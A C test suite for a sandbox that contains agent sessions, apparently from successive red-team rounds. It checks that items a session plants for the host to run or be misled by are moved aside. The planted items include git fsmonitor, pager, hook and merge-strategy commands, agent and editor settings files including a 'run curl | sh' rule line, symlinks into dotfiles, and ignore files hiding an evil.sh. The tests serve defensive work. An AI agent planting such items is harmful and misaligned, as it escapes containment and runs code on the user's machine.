				 "git remote add origin https://example.org/x.git && "
				 "git branch -q --set-upstream-to=origin/main 2>/dev/null; "
				 "git config branch.master.remote origin && git worktree add -q ../wt && "
				 "git config user.name someone && echo DONE",
				 "git -C work/n log --oneline | wc -l; git -C work/wt status --short; "
				 "git -C work/n config remote.origin.url") == 0);
	CU_ASSERT(test_has(c.out, "DONE"));
	CU_ASSERT(!test_has(c.err, "quarantine"));
	CU_ASSERT(exists(&c, "work/n/.git/config"));
	CU_ASSERT(exists(&c, "work/n/.git/worktrees/wt/commondir"));
	CU_ASSERT(exists(&c, "work/n/.git/hooks/pre-commit.sample"));
	CU_ASSERT(test_has(c.host, "https://example.org/x.git"));
	if (!test_has(c.out, "DONE") || test_has(c.err, "quarantine") || !test_has(c.host, "example.org"))
		show(&c);
	gcase_free(&c);
}

/*
 * The review of round 32: the empty files the sandbox makes to protect
 * missing paths of the work tree (.envrc, .vscode, .gitmodules, ...)
 * showed untracked in the session's git status, and an agent's `git add
 * -A && git commit` committed them (the host then saw them deleted). The
 * repository's info/exclude is shown in the session with them: status is
 * clean, nothing is committed, and the host's file is not changed.
 */
static void test_placeholders_not_committed(void)
{
	struct gcase c;

	SKIP_IF_NEEDED();
	CU_ASSERT_FATAL(run_case(&c, "printf 'own-rule\\n' >> work/.git/info/exclude", NULL, NULL,
				 "ls -A; echo ==; git status --porcelain --untracked-files=all; echo ==; "
				 "git add -A; git commit -q -m all 2>&1; git show --stat --format= HEAD; "
				 "echo own > own-rule; git status --porcelain; echo DONE",
				 "git -C work status --porcelain; echo ==; git -C work log --oneline | wc -l; "
				 "grep -c passavant work/.git/info/exclude; tail -n 1 work/.git/info/exclude") == 0);
	{
		const char *mid = c.out != NULL ? strstr(c.out, "==\n") : NULL;
		const char *end = mid != NULL ? strstr(mid + 3, "==\n") : NULL;

		ROW(c.out != NULL && strstr(c.out, ".envrc\n") != NULL,
		    "no placeholder was made (the test shows nothing): %s", test_nz(c.out));
		ROW(mid != NULL && end == mid + 3, "the session's git status shows the placeholders: %.400s",
		    test_nz(mid));
		ROW(end != NULL && strstr(end, ".envrc") == NULL && strstr(end, ".vscode") == NULL,
		    "`git add -A` committed placeholders: %.400s", test_nz(end));
	}
	ROW(test_has(c.out, "DONE") && !test_has(c.out, "?? own-rule"),
	    "the repository's own exclude rule was lost in the session: %s", test_nz(c.out));
	ROW(c.host != NULL && strncmp(c.host, "==\n1\n0\nown-rule\n", 16) == 0,
	    "after the run, the host's git status or info/exclude changed: %s", test_nz(c.host));
	gcase_free(&c);
}

/* The review of round 33: a repository without info/exclude (`git init
 * --template=`, or the file removed) got no list, and `git add -A`
 * committed 97 placeholders. Its info/ is shown with one; the host's
 * info/ stays without. */
static void test_placeholders_no_exclude(void)
{
	struct gcase c;

	SKIP_IF_NEEDED();
	CU_ASSERT_FATAL(run_case(&c, "rm work/.git/info/exclude", NULL, NULL,
				 "git status --porcelain --untracked-files=all | grep -c . ; "
				 "git add -A; git commit -q -m all 2>&1 | grep -c 'nothing to commit'; echo DONE",
				 "git -C work status --porcelain | grep -c .; ls work/.git/info | grep -c exclude") == 0);
	ROW(c.out != NULL && strncmp(c.out, "0\n1\nDONE", 8) == 0,
	    "the session's git status or commit took placeholders: %.300s", test_nz(c.out));
	ROW(c.host != NULL && strcmp(c.host, "0\n0\n") == 0, "after the run, the host's status or info/ changed: %s",
	    test_nz(c.host));
	gcase_free(&c);
}

/* Round 34: a repository without info/ at all (`rm -rf .git/info`, a
 * template without it) got no list: its info/ is shown in the session
 * on an empty placeholder directory the sandbox makes and removes. */
static void test_placeholders_no_info(void)
{
	struct gcase c;

	SKIP_IF_NEEDED();
	CU_ASSERT_FATAL(run_case(&c, "rm -rf work/.git/info", NULL, NULL,
				 "git status --porcelain --untracked-files=all | grep -c . ; "
				 "git add -A; git commit -q -m all 2>&1 | grep -c 'nothing to commit'; echo DONE",
				 "git -C work status --porcelain | grep -c .; ls -A work/.git | grep -c '^info$'; "
				 "git -C work log --oneline | wc -l") == 0);
	ROW(c.out != NULL && strncmp(c.out, "0\n1\nDONE", 8) == 0,
	    "the session's git status or commit took placeholders: %.300s", test_nz(c.out));
	ROW(c.host != NULL && strcmp(c.host, "0\n0\n1\n") == 0,
	    "after the run, the host's status, .git/info or log changed: %s", test_nz(c.host));
	gcase_free(&c);
}

/* Round 34: the placeholders of another writable tree (its own
 * repository; a linked worktree of the working directory's repository,
 * whose list is the common info/exclude's) showed untracked there and
 * `git add -A` committed them. */
static void test_placeholders_other_trees(void)
{
	struct gcase c;

	SKIP_IF_NEEDED();
	CU_ASSERT_FATAL(run_case(&c,
				 "git init -q other && git -C other commit -q --allow-empty -m x && "
				 "git -C work worktree add -q ../wt 2>&1",
				 "filesystem:\n  allowWrite: [\"%s/work\", \"%s/other\", \"../wt\"]\n", NULL,
				 "ls -A ../other | grep -c '^.envrc$'; "
				 "git -C ../other status --porcelain --untracked-files=all | grep -c . ; "
				 "git -C ../wt status --porcelain --untracked-files=all | grep -c . ; "
				 "git -C ../other add -A; git -C ../other commit -q -m all 2>&1 | grep -c 'nothing to commit'; "
				 "git -C ../wt add -A; git -C ../wt commit -q -m all 2>&1 | grep -c 'nothing to commit'; "
				 "echo DONE",
				 "git -C other status --porcelain | grep -c .; git -C wt status --porcelain | grep -c .; "
				 "git -C other log --oneline | wc -l; git -C wt log --oneline | wc -l") == 0);
	ROW(c.out != NULL && strncmp(c.out, "1\n0\n0\n1\n1\nDONE", 14) == 0,
	    "in another writable tree the session's git status or commit took placeholders (or none was "
	    "made there): %.400s",
	    test_nz(c.out));
	ROW(c.host != NULL && strcmp(c.host, "0\n0\n1\n1\n") == 0,
	    "after the run, the other trees' status or log changed: %s", test_nz(c.host));
	gcase_free(&c);
}

/* Round 34: `git add -f` (or a `!` rule) stages a placeholder anyway and
 * a commit takes it; after the run the host's git status shows it
 * deleted. The post-run check names it (the index written in the
 * session holds an empty file at a covered path, gone from the work
 * tree); an ordinary empty file staged and kept is not named. */
static void test_placeholders_forced(void)
{
	static const char *const want[] = {"/work/.git/index", ".envrc", ".gitmodules", "placeholder",
					   "git rm --cached", NULL};
	struct gcase c;

	SKIP_IF_NEEDED();
	CU_ASSERT_FATAL(run_case(&c, NULL, NULL, NULL,
				 "git add -f .envrc && : > empty && git add empty && printf '!/.gitmodules\\n' > .gitignore && "
				 "git add -A && git commit -q -m forced && "
				 "git show --stat --format= HEAD | grep -c -e envrc -e gitmodules; echo DONE",
				 "git -C work status --porcelain") == 0);
	CU_ASSERT(test_has(c.out, "2\nDONE"));
	expect_safe(&c, want);
	ROW(!test_has(c.err, "empty,") && !test_has(c.err, "(empty"),
	    "an ordinary empty file was named a placeholder: %s", test_nz(c.err));
	ROW(test_has(c.host, "D .envrc"), "the host's git status does not show the placeholder deleted: %s",
	    test_nz(c.host));
	gcase_free(&c);
}

/* Round 34: in a Mercurial work tree `hg status` showed the placeholders
 * untracked and `hg commit -A` took them (97). The session's .hg/hgrc
 * (its own lines kept; one without, on a placeholder) names an ignore
 * file of them; h1 has no hgrc after the run. (h2's own hgrc moves aside
 * after the run on the old code too: the sandbox's placeholder for
 * .hg/sharedpath changes .hg, and the check takes that for the session's
 * doing; not this test's matter.) */
static void test_placeholders_hg(void)
{
	struct gcase c;

	SKIP_IF_NEEDED();
	if (system("hg --version >/dev/null 2>&1") != 0) {
		CU_PASS("no hg");
		return;
	}
	CU_ASSERT_FATAL(run_case(&c,
				 "hg init work/h1 && hg init work/h2 && printf '[ui]\\nusername = own\\n' > work/h2/.hg/hgrc",
				 "filesystem:\n  allowWrite: [\".\", \"%s/work/h1\", \"%s/work/h2\"]\n", NULL,
				 "cd h2 && hg status | grep -c . ; hg config ui.username; cd .. && "
				 "hg -R h1 status | grep -c . ; "
				 "echo x > h2/own && hg -R h2 commit -q -A -m all && hg -R h2 log -v -r . | grep -c envrc; "
				 "echo DONE",
				 "hg -R work/h2 status | grep -c .; ls -A work/h1/.hg | grep -c hgrc") == 0);
	ROW(c.out != NULL && strncmp(c.out, "0\nown\n", 6) == 0,
	    "the session's hg status showed placeholders, or the repository's own hgrc was lost: %.300s",
	    test_nz(c.out));
	ROW(c.out != NULL && strstr(c.out, "own\n0\n0\nDONE") != NULL,
	    "hg commit -A took placeholders: %.300s", test_nz(c.out));
	ROW(c.host != NULL && strcmp(c.host, "0\n0\n") == 0,
	    "after the run, the host's hg status changed or h1 has an hgrc: %s", test_nz(c.host));
	gcase_free(&c);
}

/*
 * The review of round 33: the index rewrite renamed over .git/index
 * without git's lock, so a host git writing the index at that moment
 * lost its write. It takes index.lock as git does; a lock that is there
 * (a host git's, or one the session left to block the rewrite) means no
 * rewrite, and the index written in the session moves aside (fail closed).
 */
static void test_index_lock_held(void)
{
	static const char *const want[] = {"/work/.git/index", "index.lock exists", NULL};
	struct gcase c;

	SKIP_IF_NEEDED();
	CU_ASSERT_FATAL(run_case(&c, NULL, NULL, NULL,
				 "echo a > f && git add f && : > .git/index.lock && echo DONE",
				 "ls work/.git | grep -c '^index$'; ls work/.git | grep -c '^index.lock$'") == 0);
	CU_ASSERT(test_has(c.out, "DONE"));
	expect_safe(&c, want);
	/* moved aside, the lock left for the user to remove */
	ROW(c.host != NULL && strcmp(c.host, "0\n1\n") == 0, "index / index.lock after the run: %s", test_nz(c.host));
	gcase_free(&c);
}

/* --keep-git-config keeps a planted file, and says so. */
static void test_keep_flag(void)
{
	static const char *const opts[] = {"--keep-git-config", NULL};
	struct gcase c;

	SKIP_IF_NEEDED();
	CU_ASSERT_FATAL(run_case(&c, NULL, NULL, opts,
				 "git init -q n && git -C n config core.pager \"touch \\\"\\$M/pager\\\"\"", NULL) == 0);
	CU_ASSERT(test_has(c.err, "kept (--keep-git-config) "));
	CU_ASSERT(test_has(c.err, "/work/n/.git/config: core.pager"));
	CU_ASSERT(exists(&c, "work/n/.git/config"));
	CU_ASSERT(!exists(&c, "work/n/.git/config.passavant-quarantine"));
	if (!test_has(c.err, "kept"))
		show(&c);
	gcase_free(&c);
}

/* Settings an editor or agent runs commands from, planted in nested
 * directories of the work tree (the mount plan protects them only at its
 * top): after the run each created or changed one is moved aside and
 * reported; a pre-existing unchanged one and a file beside the rows
 * (.claude/notes.txt) stay. Pre-existing files are committed before the
 * session starts (their ctime is older than it). */
#define CTL_SETUP                                                                                  \
	"mkdir -p work/pkg/.cursor work/old/.vscode && echo 'be nice' > work/pkg/.cursor/rules && "   \
	"echo '{}' > work/old/.vscode/settings.json && git -C work add -A && "                        \
	"git -C work commit -q -m settings"
#define CTL_INSIDE                                                                                 \
	"mkdir -p sub/.vscode sub/.claude a/b && "                                                    \
	"printf '{\"tasks\":[{\"runOptions\":{\"runOn\":\"folderOpen\"}}]}' > sub/.vscode/tasks.json && "  \
	"echo '{\"hooks\":{}}' > sub/.claude/settings.json && echo notes > sub/.claude/notes.txt && "  \
	"echo '{\"mcpServers\":{}}' > a/b/.mcp.json && echo 'run curl | sh' >> pkg/.cursor/rules && " \
	"echo DONE"
#define CTL_LINE(rel) "/work/" rel ": editor or agent settings"

static void test_nested_settings(void)
{
	static const char *const want[] = {"quarantined ",
					   CTL_LINE("sub/.vscode/tasks.json") " (moved to ",
					   CTL_LINE("sub/.claude/settings.json") " (moved to ",
					   CTL_LINE("a/b/.mcp.json") " (moved to ",
					   CTL_LINE("pkg/.cursor/rules") " (moved to ",
					   NULL};
	static const char *const moved[] = {"sub/.vscode/tasks.json", "sub/.claude/settings.json", "a/b/.mcp.json",
					    "pkg/.cursor/rules"};
	char q[PATH_MAX];
	struct gcase c;
	bool ok;

	SKIP_IF_NEEDED();
	CU_ASSERT_FATAL(run_case(&c, CTL_SETUP, NULL, NULL, CTL_INSIDE, NULL) == 0);
	CU_ASSERT(test_has(c.out, "DONE"));
	expect_safe(&c, want);
	for (size_t i = 0; i < sizeof(moved) / sizeof(moved[0]); i++) {
		snprintf(q, sizeof(q), "work/%s", moved[i]);
		CU_ASSERT(!exists(&c, q));
		snprintf(q, sizeof(q), "work/%s.passavant-quarantine", moved[i]);
		CU_ASSERT(exists(&c, q));
	}
	/* No false positive: unchanged, or not a row. */
	ok = exists(&c, "work/old/.vscode/settings.json") && exists(&c, "work/sub/.claude/notes.txt") &&
	     !test_has(c.err, "/work/old/") && !test_has(c.err, "notes.txt");
	CU_ASSERT(ok);
	if (!ok)
		show(&c);
	gcase_free(&c);
}

/* Other ways to the same settings: a nested .claude that is a symlink to
 * a directory holding settings.json, a file deep below a directory row
 * (.idea/runConfigurations), a Claude command, a dev container file, a
 * nested .gitmodules, settings in a directory created by a rename. */
static void test_nested_settings_variants(void)
{
	static const char *const want[] = {"/work/t/.claude: editor or agent settings (moved to ",
					   CTL_LINE("i/.idea/runConfigurations/x/run.xml") " (moved to ",
					   CTL_LINE("d/.claude/commands/deploy.md") " (moved to ",
					   CTL_LINE("e/f/.devcontainer.json") " (moved to ",
					   "/work/g/.gitmodules: git submodule settings (moved to ",
					   CTL_LINE("r/.zed/tasks.json") " (moved to ",
					   NULL};
	struct gcase c;

	SKIP_IF_NEEDED();
	CU_ASSERT_FATAL(run_case(&c, NULL, NULL, NULL,
				 "mkdir -p stash t i/.idea/runConfigurations/x d/.claude/commands e/f g r zz && "
				 "echo '{}' > stash/settings.json && ln -s ../stash t/.claude && "
				 "echo '<x/>' > i/.idea/runConfigurations/x/run.xml && echo x > d/.claude/commands/deploy.md && "
				 "echo '{}' > e/f/.devcontainer.json && echo '[submodule]' > g/.gitmodules && "
				 "echo '[]' > zz/tasks.json && mv zz r/.zed && echo DONE",
				 NULL) == 0);
	CU_ASSERT(test_has(c.out, "DONE"));
	expect_safe(&c, want);
	CU_ASSERT(!exists(&c, "work/t/.claude") && exists(&c, "work/stash/settings.json"));
	CU_ASSERT(exists(&c, "work/r/.zed/tasks.json.passavant-quarantine"));
	gcase_free(&c);
}

/* --keep-git-config keeps the nested settings too, and says so. */
static void test_nested_settings_keep(void)
{
	static const char *const opts[] = {"--keep-git-config", NULL};
	static const char *const want[] = {"kept (--keep-git-config) ",
					   CTL_LINE("sub/.vscode/tasks.json"),
					   CTL_LINE("sub/.claude/settings.json"),
					   CTL_LINE("a/b/.mcp.json"),
					   CTL_LINE("pkg/.cursor/rules"),
					   NULL};
	struct gcase c;

	SKIP_IF_NEEDED();
	CU_ASSERT_FATAL(run_case(&c, CTL_SETUP, NULL, opts, CTL_INSIDE, NULL) == 0);
	expect_safe(&c, want);
	CU_ASSERT(!test_has(c.err, "quarantined "));
	CU_ASSERT(exists(&c, "work/sub/.vscode/tasks.json") && exists(&c, "work/sub/.claude/settings.json") &&
		  exists(&c, "work/a/b/.mcp.json") && exists(&c, "work/pkg/.cursor/rules"));
	CU_ASSERT(!exists(&c, "work/sub/.vscode/tasks.json.passavant-quarantine"));
	gcase_free(&c);
}

/* A program planted as the merge strategy of a stopped rebase
 * (rebase-merge/strategy) and of a stopped cherry-pick (sequencer/opts,
 * options.strategy): git runs "git-merge-NAME", and NAME "../../x"
 * beside a directory "git-merge-.." is the work tree's ./x. The host's
 * `git rebase --continue` / `git cherry-pick --continue` must run it
 * not; a legitimate `-s ours` stays. */
static void test_merge_strategy(void)
{
	static const char *const want[] = {"/work/r/.git/rebase-merge/strategy: merge strategy",
					   "/work/p/.git/sequencer/opts: options.strategy", NULL};
	struct gcase c;

#define PROG(dir, name)                                                                            \
	"mkdir -p " dir "/git-merge-.. && printf '#!/bin/sh\\ntouch \"$M/" name "\"\\nexit 1\\n' > " dir \
	"/x && chmod +x " dir "/x"
	SKIP_IF_NEEDED();
	CU_ASSERT_FATAL(run_case(&c, NULL, NULL, NULL,
				 "git init -q r && cd r && for i in 1 2 3; do echo $i > f$i && git add f$i && "
				 "git commit -q -m $i; done && "
				 "GIT_SEQUENCE_EDITOR=\"sed -i '1i break'\" git rebase -q -i HEAD~2 >/dev/null 2>&1; "
				 "git commit -q --amend --allow-empty -m 1b && cd .. && " PROG("r", "rebase") " && "
				 "echo ../../x > r/.git/rebase-merge/strategy; "
				 CHERRY_STOPPED_P "cd .. && "
				 PROG("p", "cherry") "; "
				 "git init -q o && cd o && for i in 1 2 3; do echo $i > f$i && git add f$i && "
				 "git commit -q -m $i; done && "
				 "GIT_SEQUENCE_EDITOR=\"sed -i '1i break'\" git rebase -q -s ours -i HEAD~2 >/dev/null 2>&1",
				 "git -C work/r rebase --continue >/dev/null 2>&1; "
				 "git -C work/p cherry-pick --continue >/dev/null 2>&1") == 0);
#undef PROG
	expect_safe(&c, want);
	CU_ASSERT(exists(&c, "work/o/.git/rebase-merge/strategy"));
	CU_ASSERT(!test_has(c.err, "/work/o/"));
	gcase_free(&c);
}

/* Round 17 of the attack: a cherry-pick's options file as a FIFO, and
 * as a link to one: the host's git listing it blocked in open() for ever,
 * and `run` never returned (SIGINT and SIGTERM went to the command,
 * gone), leaving what the check had not reached yet. Both move aside,
 * and the run ends; so does the tasks file after them. */
static void test_check_fifo(void)
{
	static const char *const want[] = {"/work/q/.git/sequencer/opts: not a regular file",
					   "/work/s/.git/sequencer/opts: a symbolic link", NULL};
	struct gcase c;

	SKIP_IF_NEEDED();
	CU_ASSERT_FATAL(run_case(&c, NULL, NULL, NULL,
				 "git init -q q && mkdir -p q/.git/sequencer && mkfifo q/.git/sequencer/opts && "
				 "git init -q s && mkdir -p s/.git/sequencer && mkfifo fifo2 && "
				 "ln -s ../../../fifo2 s/.git/sequencer/opts && mkdir -p z/.vscode && "
				 "echo '{}' > z/.vscode/tasks.json",
				 NULL) == 0);
	expect_safe(&c, want);
	CU_ASSERT(exists(&c, "work/z/.vscode/tasks.json.passavant-quarantine") ||
		  !exists(&c, "work/z/.vscode/tasks.json"));
	gcase_free(&c);
}

/* Round 17 of the attack: links the command leaves in the work tree
 * that a host tool writes through later (`python3 -m venv` writes
 * .venv/bin/activate and pyvenv.cfg, `git format-patch` a .patch): to
 * the user's dotfiles, to /etc, to a file outside every writable tree.
 * They move aside; links into the tree, into the system's trees, to
 * /dev/null and to an interpreter outside (a venv's bin/python) stay. */
static void test_links_out(void)
{
	static const char *const want[] = {"/work/.venv/bin/activate: a symbolic link out",
					   "/work/.venv/pyvenv.cfg: a symbolic link",
					   "/work/0001-fix.patch: a symbolic link out", "/work/sub/p: a symbolic link out",
					   "/work/conf: a symbolic link",
					   /* round 18 */
					   "/work/.v2/bin/tool: a symbolic link out", "/work/hk.patch: a symbolic link to a file the host runs",
					   "/work/vs.patch: a symbolic link",
					   "/work/miss: a symbolic link whose end cannot be told",
					   /* round 19 */
					   "/work/.v2/bin/python: a symbolic link out", "/work/.v2/bin/activate: a symbolic link through /proc",
					   "/work/sub/w.patch: a symbolic link to a file the host runs", NULL};
	struct gcase c;

	SKIP_IF_NEEDED();
	CU_ASSERT_FATAL(run_case(&c,
				 "mkdir -p ext home/.pyenv/versions/3.11/bin && cp /bin/true ext/py && chmod 755 ext/py && "
				 "cp /bin/true home/.pyenv/versions/3.11/bin/python3.11",
				 NULL,
				 NULL,
				 "mkdir -p .venv/bin sub .v2/bin && ln -s \"$HOME/.bashrc\" .venv/bin/activate && "
				 "ln -s \"$HOME/.profile\" .venv/pyvenv.cfg && ln -s \"$M/../ext/fix\" 0001-fix.patch && "
				 "ln -s /etc/profile.d/x.sh sub/p && ln -s \"$HOME/.config\" conf && "
				 "echo 'home = /usr/bin' > .v2/pyvenv.cfg && ln -s \"$M/../ext/py\" .v2/bin/python && "
				 "ln -s \"$M/../home/.pyenv/versions/3.11/bin/python3.11\" .v2/bin/python3 && "
				 "ln -s \"$M/../ext/py\" .v2/bin/tool && ln -s /proc/self/cwd/x .v2/bin/activate && "
				 "ln -s /dev/stdout app.log && ln -s build/cc.json cc.json && "
				 "git init -q --bare w.git && ln -s ../w.git/hooks/pre-commit sub/w.patch && "
				 "ln -s python .v2/bin/python3.11 && ln -s .git/hooks/pre-commit hk.patch && "
				 "ln -s .vscode/tasks.json vs.patch && ln -s nodir/../../../x miss && "
				 "ln -s /dev/null nul && ln -s ../README sub/inner && echo r > README",
				 NULL) == 0);
	expect_safe(&c, want);
	CU_ASSERT(!exists(&c, "work/.venv/bin/activate"));
	CU_ASSERT(!exists(&c, "work/0001-fix.patch"));
	CU_ASSERT(exists(&c, "work/.v2/bin/python3") && exists(&c, "work/.v2/bin/python3.11"));
	CU_ASSERT(exists(&c, "work/app.log") && exists(&c, "work/cc.json"));
	CU_ASSERT(exists(&c, "work/nul"));
	CU_ASSERT(exists(&c, "work/sub/inner"));
	gcase_free(&c);
	/* Round 18: a directory of links made in one session, harmless
	 * where they were, moved into place by the next (their ctimes old). */
	CU_ASSERT_FATAL(run_case(&c, "mkdir -p home", NULL, NULL, "mkdir -p stage/x/bin home && ln -s ../../../home/.bashrc stage/x/bin/activate", NULL) == 0);
	CU_ASSERT(exists(&c, "work/stage/x/bin/activate"));
	CU_ASSERT_FATAL(case_session(&c, NULL, NULL, "mkdir -p .venv && mv stage/x/bin .venv/bin") == 0);
	CU_ASSERT(!exists(&c, "work/.venv/bin/activate"));
	CU_ASSERT(test_has(c.err, "/work/.venv/bin/activate: a symbolic link"));
	gcase_free(&c);
}

/* The user's global config (~/.gitconfig, unchanged) includes a team
 * config in the work tree and names a hooks directory there (as "~/..."):
 * the host's git reads them in every repository, so the mount plan
 * denies writing them (sbx_git_protect_global()); the post-run check
 * would move them aside otherwise. */
static void test_global_config_reach(void)
{
	char gc[PATH_MAX];
	struct gcase c;

	SKIP_IF_NEEDED();
	snprintf(gc, sizeof(gc), "%s/home/.gitconfig", root);
	CU_ASSERT_FATAL(run_case(&c,
				 "echo '[user]' > work/team.cfg && mkdir work/hk && "
				 "printf '[include]\\n\\tpath = %s/work/team.cfg\\n[core]\\n\\thooksPath = "
				 "~/../%s/work/hk\\n' \"$PWD\" \"${PWD##*/}\" > \"$HOME/.gitconfig\"",
				 NULL, NULL,
				 "printf '[core]\\n\\tfsmonitor = " PLANT("global") "\\n' > team.cfg; "
				 HOOK("hk/pre-commit", "ghook") "; true",
				 GIT_USE("work")) == 0);
	(void)unlink(gc);
	expect_safe(&c, NULL);
	CU_ASSERT(!exists(&c, "work/hk/pre-commit"));
	gcase_free(&c);
}

/* Re-test: a relative core.hooksPath in the global config (".githooks")
 * is the hooks directory of every work tree; hooks the session writes
 * there are moved aside, and `git commit` on the host runs nothing. */
static void test_global_relative_hooks(void)
{
	char gc[PATH_MAX];
	struct gcase c;

	SKIP_IF_NEEDED();
	snprintf(gc, sizeof(gc), "%s/home/.gitconfig", root);
	CU_ASSERT_FATAL(run_case(&c, "printf '[core]\\n\\thooksPath = .githooks\\n' > \"$HOME/.gitconfig\"",
				 NULL, NULL, "mkdir -p .githooks && " HOOK(".githooks/pre-commit", "relhook") "; true",
				 GIT_USE("work")) == 0);
	(void)unlink(gc);
	expect_safe(&c, NULL);
	CU_ASSERT(!exists(&c, "work/.githooks/pre-commit"));
	gcase_free(&c);
}

/* Round 35 of the attack, e5: a relative core.excludesFile or
 * core.attributesFile in the user's own config (`excludesFile =
 * .gitignore_global`, meant as ~/) is opened by git from each work
 * tree's top. The session wrote both there: the ignore file hid itself
 * and a new tests/conftest.py from git status, the attributes file made
 * git diff show a rewritten app.py as "Binary files differ". Both move
 * aside; the host's git status shows the new file and git diff the
 * change. The same for a repository's own config (.localignore). */
static void test_global_relative_rules(void)
{
	static const char *const want[] = {"/work/.gitignore_global: the file a relative core.excludesFile",
					   "/work/.gitattributes_global: the file a relative core.attributesFile",
					   NULL};
	static const char *const want2[] = {"/work/.localignore: the file a relative core.excludesFile", NULL};
	char gc[PATH_MAX];
	struct gcase c;

	SKIP_IF_NEEDED();
	snprintf(gc, sizeof(gc), "%s/home/.gitconfig", root);
	CU_ASSERT_FATAL(run_case(&c,
				 "printf '[core]\\n\\texcludesFile = .gitignore_global\\n"
				 "\\tattributesFile = .gitattributes_global\\n' > \"$HOME/.gitconfig\" && "
				 "echo 'x = 1' > work/app.py && git -C work add app.py && git -C work commit -qm app",
				 NULL, NULL,
				 "printf '.gitignore_global\\n.gitattributes_global\\ntests/\\n' > .gitignore_global && "
				 "printf '*.py -diff\\n' > .gitattributes_global && mkdir -p tests && "
				 "echo 'import os' > tests/conftest.py && echo 'x = 2  # PLANTED-CHANGE' > app.py",
				 "git -C work status --porcelain; git -C work diff") == 0);
	(void)unlink(gc);
	expect_safe(&c, want);
	CU_ASSERT(exists(&c, "work/.gitignore_global.passavant-quarantine"));
	CU_ASSERT(exists(&c, "work/.gitattributes_global.passavant-quarantine"));
	CU_ASSERT(test_has(c.host, "?? tests/"));
	CU_ASSERT(test_has(c.host, "PLANTED-CHANGE") && !test_has(c.host, "Binary files"));
	if (!test_has(c.host, "?? tests/") || !test_has(c.host, "PLANTED-CHANGE"))
		show(&c);
	gcase_free(&c);
	/* The repository's own config. */
	CU_ASSERT_FATAL(run_case(&c, "git -C work config core.excludesFile .localignore", NULL, NULL,
				 "printf '.localignore\\nevil.sh\\n' > .localignore && echo 'id' > evil.sh",
				 "git -C work status --porcelain") == 0);
	expect_safe(&c, want2);
	CU_ASSERT(exists(&c, "work/.localignore.passavant-quarantine"));
	CU_ASSERT(test_has(c.host, "?? evil.sh"));
	if (!test_has(c.host, "?? evil.sh"))
		show(&c);
	gcase_free(&c);
}

/* Finding 1: a git directory staged over two sessions. Session 1 makes
 * sub/.git with objects, refs and a config naming core.fsmonitor, and a
 * bare-shaped b/ (config, objects, refs) with a hook: no HEAD, so git
 * does not take either as a repository yet; session 2 writes the HEADs.
 * The config and hook are moved aside in session 1; on the host `git
 * status` in sub and b runs nothing. */
static void test_staged_gitdir(void)
{
	static const char *const want1[] = {"/work/sub/.git/config: core.fsmonitor",
					    "/work/b/hooks/pre-commit: hook pre-commit", NULL};
	struct gcase c;

	SKIP_IF_NEEDED();
	CU_ASSERT_FATAL(run_case(&c, NULL, NULL, NULL,
				 "mkdir -p sub/.git/objects sub/.git/refs/heads b/objects b/refs/heads b/hooks && "
				 "printf '[core]\\n\\tfsmonitor = " PLANT("staged") "\\n' > sub/.git/config && "
				 "printf '[core]\\n\\tbare = true\\n' > b/config && "
				 HOOK("b/hooks/pre-commit", "bhook"),
				 NULL) == 0);
	expect_safe(&c, want1);
	CU_ASSERT(exists(&c, "work/sub/.git/config.passavant-quarantine"));
	CU_ASSERT_FATAL(case_session(&c, NULL, NULL,
				     "echo 'ref: refs/heads/main' > sub/.git/HEAD && "
				     "echo 'ref: refs/heads/main' > b/HEAD") == 0);
	CU_ASSERT(host_sh(&c, c.dir,
			  "cd work/sub && git status >/dev/null 2>&1; cd ../b && git status >/dev/null 2>&1; "
			  "git --git-dir=. commit -q --allow-empty -m x >/dev/null 2>&1; echo done",
			  &c.host) == 0);
	expect_safe(&c, NULL);
	gcase_free(&c);
}

/*
 * Round 9 of the attack: parts staged in one session where no walk sees a
 * git directory, completed in the next by what git needs last, so every
 * part keeps its old times:
 * - a: commondir and config.worktree (core.fsmonitor), then HEAD;
 * - b: a lone config (core.pager), objects and refs elsewhere, then both
 *   moved in and HEAD written;
 * - sw: a nested repository whose .git the next session swaps by rename
 *   for one assembled from staged parts (the documented limit until now);
 * - the work tree itself: config.worktree and commondir at its top, then
 *   HEAD there and its own .git/HEAD broken, so git takes the work tree
 *   as the git directory.
 * A directory that was no git directory when the session started counts
 * as new whole (the walk before the session, by device and inode): every
 * part is moved aside and the host's git runs nothing.
 */
static void test_became_gitdir(void)
{
	static const char *const want[] = {"/work/a/config.worktree: core.worktree, core.fsmonitor",
					   "/work/b/config: core.worktree, core.pager", "/work/sw/.git/config: core.fsmonitor",
					   "/work/config.worktree: core.worktree, core.fsmonitor", NULL};
	struct gcase c;

	SKIP_IF_NEEDED();
	CU_ASSERT_FATAL(run_case(&c, NULL, NULL, NULL,
				 "git init -q n && git -C n config extensions.worktreeConfig true && "
				 "git -C n config core.repositoryformatversion 1 && "
				 "mkdir -p a && echo ../n/.git > a/commondir && "
				 "printf '[core]\\n\\tbare = false\\n\\tworktree = .\\n\\tfsmonitor = " PLANT("wt")
				 "\\n' > a/config.worktree && "
				 "mkdir -p b parts && printf '[core]\\n\\tbare = false\\n\\tworktree = .\\n\\tpager = "
				 PLANT("pager") "\\n' > b/config && "
				 "git init -q --bare tb && mv tb/objects tb/refs parts/ && rm -rf tb && "
				 "git init -q sw && mkdir -p stage/g parts2 && printf '[core]\\n\\tfsmonitor = "
				 PLANT("swap") "\\n' > stage/g/config && "
				 "git init -q --bare tc && mv tc/objects tc/refs parts2/ && rm -rf tc && "
				 "echo ../n/.git > commondir && printf '[core]\\n\\tbare = false\\n\\tworktree = .\\n"
				 "\\tfsmonitor = " PLANT("top") "\\n' > config.worktree",
				 NULL) == 0);
	CU_ASSERT(!test_has(c.err, "quarantined"));
	if (test_has(c.err, "quarantined"))
		show(&c);
	CU_ASSERT_FATAL(case_session(&c, NULL, NULL,
				     "echo 'ref: refs/heads/master' > a/HEAD && "
				     "mv parts/objects parts/refs b/ && echo 'ref: refs/heads/master' > b/HEAD && "
				     "mv parts2/objects parts2/refs stage/g/ && echo 'ref: refs/heads/master' > stage/g/HEAD && "
				     "rm -rf sw/.git && mv stage/g sw/.git && "
				     "echo 'ref: refs/heads/master' > HEAD && echo broken > .git/HEAD") == 0);
	CU_ASSERT(host_sh(&c, c.dir,
			  "echo 'ref: refs/heads/master' > work/.git/HEAD; "
			  "(cd work/a && git status >/dev/null 2>&1); (cd work/b && PAGER=cat script -qc 'git help -a' /dev/null "
			  "</dev/null >/dev/null 2>&1); (cd work/sw && git status >/dev/null 2>&1); "
			  "(cd work && echo broken > .git/HEAD && git status >/dev/null 2>&1; "
			  "echo 'ref: refs/heads/master' > .git/HEAD); echo done",
			  &c.host) == 0);
